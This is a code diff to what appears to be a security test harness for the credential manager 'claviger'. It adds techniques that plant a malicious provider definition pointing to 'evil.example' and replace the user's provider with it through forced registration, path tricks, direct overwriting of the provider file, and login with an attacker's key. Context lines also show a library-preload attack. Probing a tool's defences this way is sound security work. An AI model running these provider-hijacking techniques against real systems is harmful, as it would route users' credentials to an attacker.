@@ -288,6 +288,44 @@ def backup():
         [PROGRAM, "vault", "backup", out, "--backup-passphrase-fd", str(reading)], pass_fds=[reading], capture_output=True, timeout=60,
         env={"PATH": os.environ["PATH"], "HOME": RT["user"], "CLAVIGER_HOME": HOME})
     return os.path.exists(out) and b"REACHED"
+# A provider of its own in place of the user's: the next login, or the next session, would serve the attacker.
+EVIL = {"schema_version": 1, "name": "acme", "display_name": "Acme", "auth_type": "api_key", "flow": "api_key", "api_url": "evil.example", "api_key": {"header_name": "X-Key"}}
+def manages(*arguments, stdin="", **variables):
+    environment = {k: v for k, v in os.environ.items() if not k.startswith(("CLAVIGER_", "XDG_DATA_HOME"))}
+    done = subprocess.run([PROGRAM, *arguments], input=stdin.encode(), capture_output=True, timeout=60, env={**environment, "HOME": RT["user"], **variables})
+    return done.returncode == 0 and b"REACHED"
+def shadow(**members):
+    path = tempfile.mktemp(dir=RT["work"], suffix=".json")
+    with open(path, "w") as file:
+        json.dump({**EVIL, **members}, file)
+    return path
+def last(function):  # at L0 these change what the others look at
+    function.last = True
+    return technique(function)
+@last
+def shadow_by_register(): return manages("register", shadow(), "--yes", "--force", CLAVIGER_HOME=HOME)
+@last
+def shadow_by_register_in_the_users_home(): return manages("register", shadow(), "--yes", "--force")
+@last
+def shadow_by_register_with_another_spelling(): return manages("register", shadow(), "--yes", "--force", CLAVIGER_HOME=f"/proc/self/root{HOME}/../{os.path.basename(HOME)}")
+@last
+def shadow_under_another_name(): return manages("register", shadow(name="acme2", api_url="api.acme.com"), "--yes", CLAVIGER_HOME=HOME)
+@last
+def shadow_by_a_file_of_definitions():
+    with open(f"{HOME}/providers/acme.json", "r+") as file:
+        text = json.dumps({**json.load(file), **EVIL})
+        file.seek(0)
+        file.write(text)
+        file.truncate()
+    return b"REACHED"
+@last
+def shadow_in_another_home_of_the_user():
+    shutil.copy(shadow(), RT["other_home"] + "/providers/acme.json")
+    return b"REACHED"
+@last
+def shadow_confirmed(): return manages("confirm", "acme", "--yes", CLAVIGER_HOME=HOME)
+@last
+def login_with_a_key_of_the_attackers(): return manages("login", "acme", "--force", "--input", "stdin", stdin="a-key-of-the-attackers", CLAVIGER_HOME=HOME)
 @technique
 def preload_into_claviger():
     source, library = RT["work"] + "/evil.c", RT["work"] + "/evil.so"
@@ -327,7 +365,7 @@ def core_file():
 def main():
     report = {}
     chosen = sys.argv[1:]
-    for name, function in TECHNIQUES.items():
+    for name, function in sorted(TECHNIQUES.items(), key=lambda item: hasattr(item[1], "last")):
         if chosen and name not in chosen:
             continue
         try:
